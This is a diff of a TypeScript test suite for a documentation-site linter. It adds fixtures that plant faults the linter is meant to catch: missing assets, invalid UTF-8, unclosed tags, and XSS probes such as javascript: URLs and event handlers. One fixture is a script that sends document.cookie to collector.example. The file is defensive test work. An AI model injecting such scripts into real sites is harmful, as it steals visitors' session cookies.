@@ -11,13 +11,26 @@ import { checkFixture, tutorialText, TUTORIAL_FILE, TUTORIAL_URL } from "./fixtu
  */
 interface Case {
   name: string;
-  files: Record<string, string>;
+  files: Record<string, string | Uint8Array>;
   expected: Pick<Finding, "file" | "line" | "severity"> & { message: RegExp; column?: number };
 }
 
 const tutorial = (change: (lines: string[]) => void) => ({ [TUTORIAL_FILE]: tutorialText(change) });
 const ipData = await readFile(path.join(PROJECT_ROOT, "_data/stitch/ip-addresses.yml"), "utf8");
 const regionsData = await readFile(path.join(PROJECT_ROOT, "_data/stitch/regions.yml"), "utf8");
+const siteData = await readFile(path.join(PROJECT_ROOT, "_data/site.yml"), "utf8");
+const uiData = await readFile(path.join(PROJECT_ROOT, "_data/ui.yml"), "utf8");
+const noteInclude = await readFile(path.join(PROJECT_ROOT, "_includes/note.html"), "utf8");
+
+/** A page whose line 7 is `line`. */
+const RAW_PAGE = "content/common/raw-html.md";
+const pageWith = (line: string) => ({ [RAW_PAGE]: `---\ntitle: Raw HTML\nlayout: page\n---\nText.\n\n${line}\n` });
+/** A text's bytes with one character written as Windows-1252 would (one byte, not UTF-8). */
+const windows1252 = (text: string, char: string) => {
+  const [before, after] = text.split(char) as [string, string];
+  return Buffer.concat([Buffer.from(before), Buffer.of(char.charCodeAt(0)), Buffer.from(after)]);
+};
+const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split("\n").length;
 
 const cases: Case[] = [
   {
@@ -170,8 +183,103 @@ const cases: Case[] = [
   },
   {
     name: "a missing asset",
-    files: { "content/common/script-page.md": "---\ntitle: Script page\nlayout: page\n---\nText.\n\n<script src=\"{{ '/assets/app.js' | relative_url }}\"></script>\n" },
-    expected: { file: "content/common/script-page.md", line: 7, severity: "error", message: /^asset "\/docs\/assets\/app.js" does not exist/ },
+    files: { "content/common/video-page.md": "---\ntitle: Video page\nlayout: page\n---\nText.\n\n<video src=\"{{ '/assets/intro.mp4' | relative_url }}\" controls></video>\n" },
+    expected: { file: "content/common/video-page.md", line: 7, severity: "error", message: /^asset "\/docs\/assets\/intro.mp4" does not exist/ },
+  },
+  {
+    name: "a missing image with a name markdown percent-encodes",
+    files: tutorial((l) => (l[20] = "      ![Schéma]({{ site.baseurl }}/assets/schéma.png)")),
+    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/sch%C3%A9ma.png" does not exist/ },
+  },
+  {
+    name: "a missing image whose path is put together in Liquid",
+    files: tutorial((l) => (l[20] = "      {% assign diagram = 'tunnel' %}![Diagram]({{ site.baseurl }}/assets/{{ diagram }}.png)")),
+    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/tunnel.png" does not exist/ },
+  },
+  {
+    name: "a missing image in a raw <img> with an escaped ampersand",
+    files: tutorial((l) => (l[20] = '      <img src="{{ site.baseurl }}/assets/before&amp;after.png" alt="">')),
+    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/before&after.png" does not exist/ },
+  },
+  {
+    name: "a <script> in a page's content",
+    files: pageWith("<script>fetch('https://collector.example/?c=' + document.cookie)</script>"),
+    expected: { file: RAW_PAGE, line: 7, column: 1, severity: "error", message: /^<script> in the page's content: pages may not run scripts of their own/ },
+  },
+  {
+    name: "an event-handler attribute in raw HTML",
+    files: pageWith('<p onclick="alert(1)">Click me</p>'),
+    expected: { file: RAW_PAGE, line: 7, column: 4, severity: "error", message: /^event-handler attribute onclick="alert\(1\)" on <p>/ },
+  },
+  {
+    name: "a javascript: URL in a raw link",
+    files: pageWith('<a href=" JavaScript:alert(1)">Open</a>'),
+    expected: { file: RAW_PAGE, line: 7, column: 4, severity: "error", message: /^"JavaScript:alert\(1\)" in href of <a>: a javascript: URL runs script/ },
+  },
+  {
+    name: "a javascript: URL through a kramdown attribute list",
+    files: tutorial((l) => (l[20] = '      Read [the guide](https://example.com){:href="javascript:alert(1)"}.')),
+    expected: { file: TUTORIAL_FILE, line: 21, column: 46, severity: "error", message: /^"javascript:alert\(1\)" in href of <a>/ },
+  },
+  {
+    name: "an event handler through a kramdown attribute list",
+    files: tutorial((l) => (l[20] = '      Read [the guide](https://example.com){:onmouseover="alert(1)"}.')),
+    expected: { file: TUTORIAL_FILE, line: 21, column: 46, severity: "error", message: /^event-handler attribute onmouseover="alert\(1\)" on <a>/ },
+  },
+  {
+    name: "a markdown link to a javascript: URL (which markdown shows as text)",
+    files: tutorial((l) => (l[20] = "      [Run the check](javascript:alert(1)) first.")),
+    expected: { file: TUTORIAL_FILE, line: 21, column: 21, severity: "error", message: /^markdown link to "javascript:alert\(1\)" is not a link/ },
+  },
+  {
+    name: "a javascript: link in the navigation (once, not on every page)",
+    files: {
+      "_data/site.yml": siteData.replace(
+        "        url: /account-security/stitch-security\n",
+        '        url: /account-security/stitch-security\n      - title: Status\n        url: "javascript:alert(document.cookie)"\n',
+      ),
+    },
+    expected: { file: "_data/site.yml", line: lineOf(siteData, "url: /account-security/stitch-security") + 2, severity: "error", message: /^"javascript:alert\(document.cookie\)" in href of <a>.* \(on content\/.* and \d+ other pages\)$/ },
+  },
+  {
+    name: "an image from another site",
+    files: tutorial((l) => (l[20] = "      ![Diagram](https://images.example.com/tunnel.png)")),
+    expected: {
+      file: TUTORIAL_FILE,
+      line: 21,
+      severity: "warning",
+      message: /^<img src="https:\/\/images.example.com\/tunnel.png"> loads from another site \(images.example.com\): the page's Content-Security-Policy allows only this site's own files/,
+    },
+  },
+  {
+    name: "raw HTML in a data value",
+    files: { "_data/ui.yml": uiData.replace(/^( {2}[\w-]+: )(.+)$/m, '$1"$2<span onmouseover=alert(1)>!</span>"') },
+    expected: { file: "_data/ui.yml", line: lineOf(uiData, uiData.match(/^ {2}[\w-]+: /m)![0]), severity: "error", message: /^event-handler attribute onmouseover="alert\(1\)" on <span>.*\(on content\// },
+  },
+  {
+    name: "invalid UTF-8 in a page",
+    files: { [TUTORIAL_FILE]: windows1252(tutorialText((l) => (l[20] = "      Done, café.")), "é") },
+    expected: { file: TUTORIAL_FILE, line: 21, column: 16, severity: "error", message: /^invalid UTF-8: byte 0xE9 \("é" in Windows-1252\) is not UTF-8 text.*save the file as UTF-8$/ },
+  },
+  {
+    name: "invalid UTF-8 in a data file",
+    files: { "_data/ui.yml": windows1252(`# Names in the Stitch app ©\n${uiData}`, "©") },
+    expected: { file: "_data/ui.yml", line: 1, column: 27, severity: "error", message: /^invalid UTF-8: byte 0xA9 \("©" in Windows-1252\)/ },
+  },
+  {
+    name: "a NUL byte in an include",
+    files: { "_includes/note.html": noteInclude.replace("\n", "\n\u0000") },
+    expected: { file: "_includes/note.html", line: 2, column: 1, severity: "error", message: /^NUL byte \(U\+0000\)/ },
+  },
+  {
+    name: "an unclosed tag in a step title",
+    files: tutorial((l) => (l[13] = '  - title: "Open <b>the file"')),
+    expected: { file: TUTORIAL_FILE, line: 14, column: 18, severity: "error", message: /^"<b>" in the title of step 1 is not closed: browsers carry it on over the rest of the page/ },
+  },
+  {
+    name: "a closing tag a step title did not open",
+    files: tutorial((l) => (l[17] = '  - title: "Second step</div>"')),
+    expected: { file: TUTORIAL_FILE, line: 18, column: 24, severity: "error", message: /^"<\/div>" in the title of step 2 closes an element the title did not open/ },
   },
   {
     name: "an invalid IP address",
